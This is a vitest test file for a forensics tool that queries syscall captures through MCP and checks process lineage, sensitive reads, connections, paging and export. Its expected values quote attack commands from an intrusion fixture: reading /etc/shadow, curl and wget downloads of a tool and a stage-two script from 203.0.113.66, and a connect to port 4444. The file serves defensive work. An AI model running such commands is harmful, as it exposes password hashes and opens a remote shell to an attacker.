import { createHash } from "node:crypto";
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { gunzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { readAlertLine } from "../../../src/alert/read-alert.ts";
import type { Services } from "../../../src/mcp/services.ts";
import type { Tool } from "../../../src/mcp/tool.ts";
import { exportCaptureTool } from "../../../src/mcp/tools/export-capture.ts";
import { queryCaptureTool } from "../../../src/mcp/tools/query-capture.ts";
import { resolveInside } from "../../../src/paths/roots.ts";
import type { AlertStore } from "../../../src/store/alert-store.ts";
import { openSqliteStore } from "../../../src/store/sqlite-store.ts";
import { answerOf } from "./answer-of.ts";

const FIXTURE = resolve(import.meta.dirname, "../../fixtures/captures/web-intrusion.scap");

type Row = Record<string, unknown>;
type Data = Record<string, Row[]> & {
  warnings: string[];
  untrusted_fields: string[];
  next_cursor?: string;
  matched: number;
  capture: Row;
  alert?: Row;
};

let folder: string;
let alerts: AlertStore;
let alertId: string;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "capture-tools-"));
  mkdirSync(join(folder, "captures"));
  copyFileSync(FIXTURE, join(folder, "captures/web.scap"));
  const whole = gunzipSync(readFileSync(FIXTURE));
  writeFileSync(join(folder, "captures/cut.scap"), whole.subarray(0, 220_000));
  writeFileSync(join(folder, "captures/foreign.scap"), "no capture at all");
  writeFileSync(join(folder, "outside.scap"), "");
  alerts = await openSqliteStore({ folder: join(folder, "home/alerts"), nowMs: () => 1_800_000_000_000 });
  const read = readAlertLine(JSON.stringify(ALERT));
  if (read.kind !== "alert") throw new Error(read.kind);
  await alerts.add([{ alert: read.alert, occurrence: 1, receivedAtMs: 1_800_000_000_000 }]);
  const [stored] = (await alerts.search({}, { limit: 1, order: "newest" })).alerts;
  alertId = stored?.id ?? "";
});
afterAll(async () => {
  await alerts.close();
  rmSync(folder, { recursive: true });
});

const ALERT = {
  time: "2026-11-22T02:49:12.933303940Z",
  rule: "Read sensitive file",
  priority: "Warning",
  source: "syscall",
  output: "x",
  output_fields: { "proc.pid": 20177 },
};

async function answer(tool: Tool, input: Record<string, unknown>, room = 40_000): Promise<Data> {
  const services = {
    captures: {
      locate: (path: string) => resolveInside({ folders: [join(folder, "captures")], flag: "--captures-root" }, path),
      exportFolder: join(folder, "home/captures"),
    },
    nowNs: () => 1_800_000_000_000_000_000n,
    alerts,
  } as unknown as Services;
  return (await answerOf(tool, input, { services, maxChars: room })) as unknown as Data;
}

const ask = (question: string, input: Record<string, unknown> = {}, room?: number) =>
  answer(queryCaptureTool, { capture: "web.scap", question, ...input }, room);

test("which process read the secret, who started it, where its family connected: three calls", async () => {
  const secrets = await ask("sensitive_reads");
  const shadow = secrets.files?.find(({ file }) => file === "/etc/shadow");
  expect(shadow).toMatchObject({
    kind: "password hashes",
    access: "read",
    pid: 20177,
    command: "cat /etc/shadow",
    container: "3f1c9a7be2d0",
    lineage: "sh (20176) < ping.sh (20174) < httpd (20173) < httpd (20108) < containerd-shim (20106)",
  });

  const life = await ask("process", { process: String(shadow?.pid) });
  expect(life.lineage?.map(({ pid, process }) => [pid, process])).toEqual([
    [20106, "containerd-shim"],
    [20108, "httpd"],
    [20173, "httpd"],
    [20174, "ping.sh"],
    [20176, "sh"],
    [20177, "cat"],
  ]);
  expect(life.executions).toMatchObject([{ command: "cat /etc/shadow" }]);
  expect(life.lineage?.at(-1)).toMatchObject({ exit: "0", started: "2026-11-22T02:49:12.932001867Z" });

  const family = await ask("connections", { process: "20108", descendants: true });
  const outgoing = family.connections?.filter(({ direction }) => direction === "out");
  expect(outgoing?.map(({ command, peer, port }) => [command, peer, port])).toEqual([
    ["curl -s -o /tmp/.x/tool http://203.0.113.66:8000/tool", "203.0.113.66", 8000],
    ["wget -q -O /tmp/.x/s2.sh http://203.0.113.66:8000/stage2.sh", "203.0.113.66", 8000],
    ["tool connect 203.0.113.66 4444", "203.0.113.66", 4444],
  ]);
  expect(family.untrusted_fields).toEqual(expect.arrayContaining(["connections[].command", "connections[].lineage"]));
});

describe("around", () => {
  test("an alert of the store, and its process", async () => {
    const around = await ask("around", { alert: alertId, seconds: 0.0001 });
    expect(around.alert).toEqual({ id: alertId, rule: "Read sensitive file", time: ALERT.time });
    expect(around.events?.map(({ type, target }) => [type, target])).toContainEqual(["openat", "/etc/shadow"]);
    expect(around.warnings.join()).toMatch(/events that change nothing are left out/);
    const life = await ask("process", { alert: alertId });
    expect(life.lineage?.at(-1)).toMatchObject({ pid: 20177 });
  });

  test("a time, in either form", async () => {
    const at = { seconds: 0.0001, everything: true, fields: ["proc.name", "proc.aname[2]"] };
    const one = await ask("around", { at: "2026-11-22T02:49:12.933303940Z", ...at });
    const two = await ask("around", { at: "1795315752933303940", ...at });
    expect(two.events).toEqual(one.events);
    expect(one.events?.find(({ event }) => event === 1999)).toMatchObject({
      fields: { "proc.name": "cat", "proc.aname[2]": "ping.sh" },
    });
  });

  test("a time outside the capture says so", async () => {
    const { events, warnings } = await ask("around", { at: "2020-01-01T00:00:00Z" });
    expect(events).toEqual([]);
    expect(warnings.join()).toMatch(/no event is within the filter|lies outside the capture/);
  });
});

test("events by condition page by page give what one page gives", async () => {
  const condition = "evt.type = execve and proc.name != sh";
  const whole = await ask("events", { condition, limit: 500 }, 400_000);
  const pages: unknown[] = [];
  let cursor: string | undefined;
  do {
    const page: Data = await ask("events", { condition, limit: 7, ...(cursor ? { cursor } : {}) });
    expect(page.matched).toBe(whole.matched);
    pages.push(...(page.events ?? []));
    cursor = page.next_cursor;
  } while (cursor);
  expect(pages).toEqual(whole.events);
});

test("a page that does not fit goes on where it was cut", async () => {
  const whole = await ask("process_tree", { limit: 500 }, 400_000);
  const first = await ask("process_tree", { limit: 500 }, 10_000);
  const shown = first.processes?.length ?? 0;
  expect(shown).toBeLessThan(whole.processes?.length ?? 0);
  const second = await ask("process_tree", { limit: 500, cursor: first.next_cursor }, 400_000);
  expect([...(first.processes ?? []), ...(second.processes ?? [])]).toEqual(whole.processes);
});

test("so does a page of events", async () => {
  const condition = "evt.type = execve";
  const whole = await ask("events", { condition, limit: 500 }, 400_000);
  const first = await ask("events", { condition, limit: 500 }, 10_000);
  expect(first.events?.length).toBeLessThan(whole.events?.length ?? 0);
  const second = await ask("events", { condition, limit: 500, cursor: first.next_cursor }, 400_000);
  expect([...(first.events ?? []), ...(second.events ?? [])]).toEqual(whole.events);
});

test("a capture that was cut gives what stands before, and the fault", async () => {
  const cut = await answer(queryCaptureTool, { capture: "cut.scap", question: "sensitive_reads" });
  expect(cut.files).toMatchObject([{ file: "/etc/shadow" }]);
  expect(cut.capture).toMatchObject({ damaged: true });
  expect(cut.warnings.join()).toMatch(/^CAPTURE_TRUNCATED: .* before that place$/);
});

test.each([
  [{ capture: "../outside.scap", question: "users" }, "PATH_OUTSIDE_ROOTS"],
  [{ capture: "gone.scap", question: "users" }, "FILE_NOT_FOUND"],
  [{ capture: "foreign.scap", question: "users" }, "CAPTURE_FOREIGN"],
  [{ capture: "web.scap", question: "process" }, "INVALID_ARGUMENT"],
  [{ capture: "web.scap", question: "users", condition: "evt.type=open" }, "INVALID_ARGUMENT"],
  [{ capture: "web.scap", question: "around" }, "INVALID_ARGUMENT"],
  [{ capture: "web.scap", question: "around", at: "noon" }, "INVALID_TIME"],
  [{ capture: "web.scap", question: "around", alert: "a2" }, "ALERT_NOT_FOUND"],
  [{ capture: "web.scap", question: "events", condition: "evt.type=open and" }, "CONDITION_NOT_COMPILED"],
  [{ capture: "web.scap", question: "events", condition: "proc.nmae=sh" }, "CONDITION_NOT_COMPILED"],
  [{ capture: "web.scap", question: "events", fields: ["proc.name %user.name"] }, "UNKNOWN_FIELD"],
  [{ capture: "web.scap", question: "users", cursor: "5.0123456789ab" }, "CURSOR_MISMATCH"],
  [
    { capture: "web.scap", question: "users", from: "1795315752933303940", to: "1795315752933303940" },
    "INVALID_ARGUMENT",
  ],
])("%j fails with %s", async (input, code) => {
  await expect(answer(queryCaptureTool, input)).rejects.toMatchObject({ code });
});

test("a part is kept as a capture of its own, with the digests of both", async () => {
  const exported = (await answer(exportCaptureTool, { capture: "web.scap", process: "20177" })) as unknown as {
    file: { path: string; sha256: string; bytes: number };
    source_file: { sha256: string };
    events: number;
  };
  const bytes = readFileSync(exported.file.path);
  const digest = (of: Buffer) => createHash("sha256").update(of).digest("hex");
  expect(exported.file).toMatchObject({ bytes: bytes.length, sha256: digest(bytes) });
  expect(exported.source_file.sha256).toBe(digest(readFileSync(FIXTURE)));
  expect(exported.file.path.startsWith(join(folder, "home/captures/web-"))).toBe(true);
  expect(exported.events).toBe(47);
  await expect(answer(exportCaptureTool, { capture: "web.scap", process: "nobody" })).rejects.toMatchObject({
    code: "INVALID_ARGUMENT",
  });
});
